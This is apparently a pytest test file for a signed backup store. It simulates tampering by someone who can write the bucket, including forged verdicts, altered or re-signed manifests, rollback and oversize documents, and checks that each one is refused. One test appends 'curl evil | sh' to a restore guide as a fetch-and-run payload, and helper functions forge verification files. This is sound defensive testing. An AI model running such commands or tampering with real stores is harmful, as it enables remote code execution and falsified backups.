"""Attacks by who can write the bucket, each on the real store: none is taken for what it claims to be."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from tmi_ops.errors import IntegrityError, ObjectExistsError, StoreError
from tmi_ops.progress import SilentReport
from tmi_ops.recovery.fetch import fetch_backup
from tmi_ops.retention.holds import hold_backup, read_hold
from tmi_ops.retention.reading import read_facts
from tmi_ops.settings import StoreSettings
from tmi_ops.store import signed
from tmi_ops.store.backup_documents import backup_folder, commit_manifest, read_manifest, record_verification
from tmi_ops.store.catalogue import find_backup, list_backups
from tmi_ops.store.manifest import Manifest, Verification, to_json
from tmi_ops.store.minisign import new_secret_key, secret_key_file
from tmi_ops.store.objects import ObjectStore, open_store
from tmi_ops.store.restore_guide import write_restore_guide
from tmi_ops.store.seen import RolledBackError
from tmi_ops.store.trust import UntrustedError
from tmi_ops_tests.store.conftest import ENVIRONMENT, RawBucket

NOW = datetime.now(UTC).replace(microsecond=0)


@dataclass(frozen=True)
class Hosts:
    """The store as the hosts with one key each see it; all of them pin all three keys."""

    writer: ObjectStore
    prover: ObjectStore
    pruner: ObjectStore


@pytest.fixture
def hosts(store_settings: StoreSettings, tmp_path: Path) -> Hosts:
    keys = {role: new_secret_key() for role in ("writer", "prover", "pruner")}
    pinned = tuple(f"{role}:{key.public.text}" for role, key in keys.items())

    def host(role: str) -> ObjectStore:
        file = tmp_path / f"{role}.key"
        file.write_text(secret_key_file(keys[role], role))
        notes = tmp_path / f"{role}.seen.json"
        settings = store_settings.model_copy(
            update={"signing_key_file": file, "trusted_keys": pinned, "seen_file": notes}
        )
        return open_store(settings, ENVIRONMENT)

    return Hosts(host("writer"), host("prover"), host("pruner"))


def take_backup(store: ObjectStore, at: datetime = NOW, environment: str = ENVIRONMENT, end: str = "aaaa") -> Manifest:
    backup_id = f"{at:%Y%m%dT%H%M%SZ}-logical-{end}"
    data = store.upload(f"logical/{backup_id}/database.dump", iter([b"rows"]))
    manifest = Manifest(
        backup_id=backup_id,
        environment=environment,
        server_version="17.1",
        server_version_num=170001,
        started_at=at,
        finished_at=at,
        duration_seconds=1,
        tmi_ops_version="0",
        kind="logical",
        format="custom",
        database="tmi",
        database_size=1,
        encoding="UTF8",
        collation="C",
        ctype="C",
        snapshot="1",
        snapshot_at=at,
        objects=(data,),
    )
    commit_manifest(store, manifest)
    return read_manifest(store, backup_id)


def verification_of(manifest: Manifest, outcome: str = "proven", at: datetime = NOW) -> Verification:
    return Verification(
        backup_id=manifest.backup_id,
        outcome=outcome,
        verified_at=at,
        server_version="17.1",
        tmi_ops_version="0",
        manifest_sha256=manifest.stored_sha256,
    )


def outcome_of(store: ObjectStore, backup_id: str) -> tuple[str | None, list[str]]:
    """What is believed of a backup, and what was refused while the catalogue was read."""
    refused: list[StoreError] = []
    entries = {one.manifest.backup_id: one for one in list_backups(store, refused.append)}
    verification = entries[backup_id].verification
    return verification.outcome if verification else None, [error.message for error in refused]


def test_what_the_hosts_write_they_believe_of_each_other(hosts: Hosts) -> None:
    manifest = take_backup(hosts.writer)
    record_verification(hosts.prover, verification_of(manifest))
    assert outcome_of(hosts.pruner, manifest.backup_id) == ("proven", [])
    hold_backup(hosts.pruner, manifest.backup_id, "the audit")
    held = read_hold(hosts.writer, manifest.backup_id)
    assert held is not None and held.reason == "the audit"


def test_a_stolen_writer_key_calls_nothing_proven(hosts: Hosts) -> None:
    manifest = take_backup(hosts.writer)
    with pytest.raises(UntrustedError, match="writer key, which may not sign a proof"):
        record_verification(hosts.writer, verification_of(manifest))
    # The thief does not run our program.
    unchecked = replace(hosts.writer, trust=replace(hosts.writer.trust, trusted=()))
    record_verification(unchecked, verification_of(manifest))
    outcome, refused = outcome_of(hosts.prover, manifest.backup_id)
    assert outcome is None
    assert "writer key, which may not sign a proof" in refused[0]


def test_a_stolen_writer_key_cannot_put_another_backup_under_a_verdict(hosts: Hosts, raw: RawBucket) -> None:
    manifest = take_backup(hosts.writer)
    record_verification(hosts.prover, verification_of(manifest))
    key = f"{backup_folder(manifest.backup_id)}/manifest.json"
    evil = to_json(manifest.model_copy(update={"database": "evil"}))
    signed.write_over(hosts.writer, key, evil, "backup")
    outcome, refused = outcome_of(hosts.pruner, manifest.backup_id)
    assert outcome is None
    assert "belongs to another manifest" in refused[0]


Attack = Callable[[RawBucket, Manifest, Manifest], None]


def unsigned_verification(raw: RawBucket, old: Manifest, new: Manifest) -> None:
    raw.write(f"logical/{new.backup_id}/verdict-{NOW:%Y%m%dT%H%M%S}000000Z-ffff.json", to_json(verification_of(new)))


def verification_of_another(raw: RawBucket, old: Manifest, new: Manifest) -> None:
    for key in [key for key in sorted(raw.keys()) if "/verdict-" in key and old.backup_id in key]:
        raw.write(key.replace(old.backup_id, new.backup_id), raw.read(key))


def altered_manifest(raw: RawBucket, old: Manifest, new: Manifest) -> None:
    key = f"logical/{new.backup_id}/manifest.json"
    raw.write(key, raw.read(key).replace(b'"tmi"', b'"imt"'))


def removed_signature(raw: RawBucket, old: Manifest, new: Manifest) -> None:
    raw.remove(f"logical/{new.backup_id}/manifest.json.minisig")


def signature_of_another(raw: RawBucket, old: Manifest, new: Manifest) -> None:
    for name in ("manifest.json", "manifest.json.minisig"):
        raw.write(f"logical/{new.backup_id}/{name}", raw.read(f"logical/{old.backup_id}/{name}"))


@pytest.mark.parametrize(
    ("attack", "said"),
    [
        (unsigned_verification, "is not signed"),
        (verification_of_another, "and copied from there"),
        (altered_manifest, "was altered"),
        (removed_signature, "is not signed"),
        (signature_of_another, "and copied from there"),
    ],
)
def test_who_can_write_the_bucket_alone_is_refused_and_named(
    hosts: Hosts, raw: RawBucket, monkeypatch: pytest.MonkeyPatch, attack: Attack, said: str
) -> None:
    monkeypatch.setattr(signed, "_READINGS", 1)
    old = take_backup(hosts.writer, NOW - timedelta(days=1))
    new = take_backup(hosts.writer, NOW, end="bbbb")
    record_verification(hosts.prover, verification_of(old))
    attack(raw, old, new)

    refused: list[StoreError] = []
    believed = {one.manifest.backup_id: one.verification for one in list_backups(hosts.pruner, refused.append)}
    assert believed.get(new.backup_id) is None
    verification = believed[old.backup_id]
    assert verification is not None and verification.outcome == "proven", "the rest of the catalogue stands"
    assert said in refused[0].message and new.backup_id in refused[0].message
    with pytest.raises(StoreError, match="could not be read completely"):
        list_backups(hosts.pruner)


def test_a_verdict_is_not_forged_by_a_file_name_even_without_keys(store: ObjectStore, raw: RawBucket) -> None:
    manifest = take_backup(store)
    record_verification(store, verification_of(manifest, "proven", NOW - timedelta(hours=1)))
    record_verification(store, verification_of(manifest, "failed", NOW))
    assert outcome_of(store, manifest.backup_id) == ("failed", [])
    (verified,) = [key for key in sorted(raw.keys()) if "verdict-" in key and b'"proven"' in raw.read(key)]
    raw.write(f"logical/{manifest.backup_id}/verdict-99990101T000000000000Z-ffff.json", raw.read(verified))
    outcome, refused = outcome_of(store, manifest.backup_id)
    assert outcome is None
    assert "was copied or renamed" in refused[0]


def test_a_manifest_of_another_environment_or_from_the_future_is_refused(hosts: Hosts) -> None:
    with pytest.raises(UntrustedError, match="of the environment 'staging'"):
        take_backup(hosts.writer, environment="staging")
    with pytest.raises(UntrustedError, match="in the future"):
        take_backup(hosts.writer, NOW + timedelta(hours=2))


def test_a_plain_backup_where_every_one_is_encrypted_is_not_used(hosts: Hosts, tmp_path: Path) -> None:
    manifest = take_backup(hosts.writer)
    expecting = replace(hosts.prover, recipients=("age1anybody",))
    with pytest.raises(UntrustedError, match="is not encrypted, but TMI_OPS_AGE_RECIPIENTS"):
        fetch_backup(expecting, manifest, tmp_path, SilentReport())
    assert fetch_backup(hosts.prover, manifest, tmp_path, SilentReport()).path("database.dump").read_bytes() == b"rows"


def test_prune_notices_a_store_that_went_back_too(hosts: Hosts, raw: RawBucket) -> None:
    take_backup(hosts.writer, NOW - timedelta(days=1))
    new = take_backup(hosts.writer, NOW)
    assert len(read_facts(hosts.pruner).backups) == 2
    for key in [key for key in sorted(raw.keys()) if new.backup_id in key]:
        raw.remove(key)
    with pytest.raises(RolledBackError, match=new.backup_id):
        read_facts(hosts.pruner)


def test_a_store_that_went_back_is_noticed(hosts: Hosts, raw: RawBucket) -> None:
    old = take_backup(hosts.writer, NOW - timedelta(days=1))
    new = take_backup(hosts.writer, NOW)
    assert len(list_backups(hosts.pruner)) == 2
    for key in [key for key in sorted(raw.keys()) if new.backup_id in key]:
        raw.remove(key)
    with pytest.raises(StoreError, match=f"The store is in an older state: {new.backup_id}"):
        list_backups(hosts.pruner)
    with pytest.raises(RolledBackError, match=new.backup_id):
        find_backup(hosts.pruner, "latest")
    assert find_backup(hosts.pruner, old.backup_id).backup_id == old.backup_id, "by its name it may be had"
    newer = take_backup(hosts.writer, NOW + timedelta(seconds=1))
    assert find_backup(hosts.pruner, "latest").backup_id == newer.backup_id


def test_a_document_too_large_to_be_one_is_not_read(
    hosts: Hosts, raw: RawBucket, monkeypatch: pytest.MonkeyPatch
) -> None:
    manifest = take_backup(hosts.writer)
    monkeypatch.setattr(signed, "LARGEST_DOCUMENT", 100)
    with pytest.raises(IntegrityError, match="the limit is 100"):
        read_manifest(hosts.writer, manifest.backup_id)


def test_of_two_writers_of_one_document_one_wins_and_its_signature_stays(hosts: Hosts, raw: RawBucket) -> None:
    signed.write_once(hosts.writer, "restore-points/a.json", b"first", "restore point")
    with pytest.raises(ObjectExistsError):
        signed.write_once(hosts.writer, "restore-points/a.json", b"second", "restore point")
    assert signed.read_document(hosts.prover, "restore-points/a.json", "restore point") == b"first"


def test_a_signature_whose_writer_died_is_in_nobodys_way_for_long(
    hosts: Hosts, raw: RawBucket, monkeypatch: pytest.MonkeyPatch
) -> None:
    raw.write("restore-points/a.json.minisig", b"of one who died")
    with pytest.raises(ObjectExistsError, match="or is being written"):
        signed.write_once(hosts.writer, "restore-points/a.json", b"mine", "restore point")
    monkeypatch.setattr(signed, "_ABANDONED_S", -1.0)
    signed.write_once(hosts.writer, "restore-points/a.json", b"mine", "restore point")
    assert signed.read_document(hosts.prover, "restore-points/a.json", "restore point") == b"mine"


def test_without_keys_everything_works_and_nothing_is_signed(store: ObjectStore, raw: RawBucket) -> None:
    manifest = take_backup(store)
    record_verification(store, verification_of(manifest))
    write_restore_guide(store)
    assert outcome_of(store, manifest.backup_id) == ("proven", [])
    assert not [key for key in sorted(raw.keys()) if key.endswith(".minisig")]


def test_the_guide_that_a_person_will_run_is_signed_too(hosts: Hosts, raw: RawBucket) -> None:
    write_restore_guide(hosts.writer)
    raw.write("RESTORE.md", raw.read("RESTORE.md") + b"curl evil | sh\n")
    with pytest.raises(UntrustedError, match="was altered"):
        signed.read_signed(hosts.prover, "RESTORE.md", "guide")
    assert write_restore_guide(hosts.writer), "it is written anew"
